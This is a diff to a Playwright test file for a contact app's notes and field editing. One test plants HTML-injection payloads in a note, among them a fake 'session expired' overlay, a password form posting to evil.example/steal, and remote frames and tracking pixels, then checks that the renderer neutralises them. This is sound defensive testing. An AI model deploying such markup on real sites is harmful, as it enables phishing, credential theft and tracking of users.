@@ -1,6 +1,6 @@
 import { createContacts, expect, screenshot, signIn, test } from './support';
 
-test('when a note is written and Ctrl+Enter pressed, then it is saved and shown, and it is deleted after a confirmation', async ({ page, account }) => {
+test('when a note is written and Ctrl+Enter pressed, then it is saved and shown, and it is deleted after a confirmation that Escape gives up', async ({ page, account }) => {
   const [id] = await createContacts(account, [{ name: 'Nora Notes', email: 'nora@example.com' }]);
   await signIn(page, account);
   await page.getByRole('link', { name: 'Nora Notes' }).click();
@@ -14,9 +14,69 @@ test('when a note is written and Ctrl+Enter pressed, then it is saved and shown,
   await screenshot(page, 'contact');
 
   await note.getByRole('button', { name: 'Delete note' }).click();
+  await page.keyboard.press('Escape');
+  await expect(note.getByRole('button', { name: 'Confirm' })).toHaveCount(0);
+  await note.getByRole('button', { name: 'Delete note' }).click();
   await note.getByRole('button', { name: 'Confirm' }).click();
   await expect(page.getByTestId('note')).toHaveCount(0);
   expect((await account.api<unknown[]>('GET', `/contacts/${id}/notes`)).body).toEqual([]);
+
+  // Escape gives up deleting the contact too.
+  await page.getByRole('button', { name: 'Delete contact' }).click();
+  await page.keyboard.press('Escape');
+  await expect(page.getByRole('button', { name: 'Confirm' })).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Delete contact' })).toBeVisible();
+});
+
+test('when a note is edited, then Escape leaves it as it was, Ctrl+Enter saves it, and the newest note stays first', async ({ page, account }) => {
+  const [id] = await createContacts(account, [{ name: 'Olga Older' }]);
+  const first = await account.api<{ id: number }>('POST', `/contacts/${id}/notes`, { content: 'First note' });
+  await account.api('POST', `/contacts/${id}/notes`, { content: 'Second note' });
+  await signIn(page, account);
+  await page.getByRole('link', { name: 'Olga Older' }).click();
+  const notes = page.getByTestId('note');
+  await expect(notes.locator('.markdown')).toHaveText(['Second note', 'First note']);
+
+  const older = notes.filter({ hasText: 'First note' });
+  await older.getByRole('button', { name: 'Edit note' }).click();
+  const editor = page.getByLabel(/Edit the note/);
+  await expect(editor).toHaveValue('First note');
+  await expect(editor).toBeFocused();
+  await editor.fill('Thrown away');
+  await editor.press('Escape');
+  await expect(editor).toHaveCount(0);
+  await expect(notes.locator('.markdown')).toHaveText(['Second note', 'First note']);
+
+  await older.getByRole('button', { name: 'Edit note' }).click();
+  await editor.fill('First note, **revised**');
+  await editor.press('Control+Enter');
+  await expect(editor).toHaveCount(0);
+  await expect(notes.locator('.markdown')).toHaveText(['Second note', 'First note, revised']);
+  await expect(notes.nth(1).locator('strong')).toHaveText('revised');
+  expect((await account.api<{ content: string }>('GET', `/contacts/${id}/notes/${first.body.id}`)).body.content).toBe('First note, **revised**');
+});
+
+test('when an agent opens a contact, then only their own notes offer edit and delete, and an administrator may change anyone\'s', async ({ page, account }) => {
+  const [id] = await createContacts(account, [{ name: 'Paula Permissions' }]);
+  await account.api('POST', `/contacts/${id}/notes`, { content: 'Written by the administrator' });
+  await signIn(page, account, 'agent');
+  await page.getByRole('link', { name: 'Paula Permissions' }).click();
+  await page.getByLabel(/New note/).fill('Written by the agent');
+  await page.getByLabel(/New note/).press('Control+Enter');
+  const note = (text: string) => page.getByTestId('note').filter({ hasText: text });
+  await expect(note('Written by the agent').getByRole('button', { name: 'Edit note' })).toBeVisible();
+  await expect(note('Written by the agent').getByRole('button', { name: 'Delete note' })).toBeVisible();
+  await expect(note('Written by the administrator').getByRole('button')).toHaveCount(0);
+  await expect(note('Written by the administrator')).toContainText('only its author or an administrator may edit or delete it');
+
+  await page.getByRole('button', { name: 'Sign out' }).click();
+  await signIn(page, account);
+  await page.getByRole('link', { name: 'Paula Permissions' }).click();
+  await expect(note('Written by the administrator').getByRole('button', { name: 'Edit note' })).toBeVisible();
+  await note('Written by the agent').getByRole('button', { name: 'Delete note' }).click();
+  await note('Written by the agent').getByRole('button', { name: 'Confirm' }).click();
+  await expect(page.getByTestId('note')).toHaveCount(1);
+  await expect(page.getByRole('alert')).toHaveCount(0);
 });
 
 test('when a Markdown note holds a script tag and an event handler, then they render inert', async ({ page, account }) => {
@@ -35,7 +95,39 @@ test('when a Markdown note holds a script tag and an event handler, then they re
   expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
 });
 
-test('when a field is edited in place with a bad value, then the API error shows at the field, and a good value is saved', async ({ page, account }) => {
+test('when a note holds styles, a form, a frame or a remote image, then none of them reaches the page and the image is a link that loads nothing', async ({ page, account }) => {
+  const [id] = await createContacts(account, [{ name: 'Stella Style' }]);
+  await account.api('POST', `/contacts/${id}/notes`, {
+    content: [
+      'Kept **bold**',
+      '<style>body { display: none !important }</style>',
+      '<div style="position:fixed;inset:0;background:red;z-index:9999">Your session expired: sign in again</div>',
+      '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>',
+      '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object>',
+      '![pixel](https://tracker.example/pixel.gif) <img src="https://tracker.example/raw.gif" alt="raw">',
+      '- [x] done task',
+    ].join('\n\n'),
+  });
+  const remote: string[] = [];
+  page.on('request', (request) => {
+    if (/evil\.example|tracker\.example/.test(request.url())) remote.push(request.url());
+  });
+  await signIn(page, account);
+  await page.getByRole('link', { name: 'Stella Style' }).click();
+  const note = page.getByTestId('note');
+  await expect(note.locator('strong')).toHaveText('bold');
+  await expect(page.locator('body')).toBeVisible();
+  // The note's own text only (its Edit and Delete buttons sit beside it).
+  await expect(note.locator('.markdown').locator('style, [style], form, input, button, iframe, object, img')).toHaveCount(0);
+  await expect(note).toContainText('Your session expired');
+  await expect(note.getByRole('link', { name: 'Image: pixel' })).toHaveAttribute('href', 'https://tracker.example/pixel.gif');
+  await expect(note.getByRole('link', { name: 'Image: raw' })).toHaveAttribute('rel', /noopener/);
+  await expect(note).toContainText('☑ done task');
+  await page.waitForTimeout(300);
+  expect(remote).toEqual([]);
+});
+
+test('when a field is edited in place with a bad value, then the API error shows at the field, a good value is saved and shown as stored, and Escape gives up an edit', async ({ page, account }) => {
   const [id] = await createContacts(account, [{ name: 'Eve Edit', email: 'eve@example.com' }]);
   await signIn(page, account);
   await page.getByRole('link', { name: 'Eve Edit' }).click();
@@ -48,4 +140,35 @@ test('when a field is edited in place with a bad value, then the API error shows
   await expect(page.locator('#field-email-error')).toHaveCount(0);
   await expect(page.getByText('Saved')).toBeVisible();
   expect((await account.api<{ payload: { email: string } }>('GET', `/contacts/${id}`)).body.payload.email).toBe('eve@new.example');
+
+  // The API stores emails lowercased: the field shows what was stored, not what was typed.
+  await email.fill('EVE@New.Example');
+  await email.press('Enter');
+  await expect(email).toHaveValue('eve@new.example');
+  // Escape gives up an edit.
+  await email.fill('half-typed');
+  await email.press('Escape');
+  await expect(email).toHaveValue('eve@new.example');
+  await email.blur();
+  await expect(page.locator('#field-email-error')).toHaveCount(0);
+});
+
+test('when social profiles are edited in place, then each is saved beside the others, and a bad one shows its error at the field', async ({ page, account }) => {
+  const [id] = await createContacts(account, [{ name: 'Sofia Social', additional_attributes: { social_profiles: { github: 'sofia' } } }]);
+  await signIn(page, account);
+  await page.getByRole('link', { name: 'Sofia Social' }).click();
+  await expect(page.getByLabel('GitHub')).toHaveValue('sofia');
+  const twitter = page.getByLabel('Twitter');
+  await twitter.fill('not a handle!');
+  await twitter.press('Enter');
+  await expect(page.getByRole('alert')).toContainText('social_profiles.twitter must be a handle or an http(s) URL');
+  await expect(twitter).toHaveAttribute('aria-invalid', 'true');
+  await twitter.fill('@sofia');
+  await twitter.press('Enter');
+  await expect(twitter).not.toHaveAttribute('aria-invalid');
+  const profiles = async () => (await account.api<{ payload: { additional_attributes: { social_profiles?: unknown } } }>('GET', `/contacts/${id}`)).body.payload.additional_attributes.social_profiles;
+  expect(await profiles()).toEqual({ github: 'sofia', twitter: '@sofia' });
+  await page.getByLabel('GitHub').fill('');
+  await page.getByLabel('GitHub').press('Enter');
+  await expect.poll(profiles).toEqual({ twitter: '@sofia' });
 });
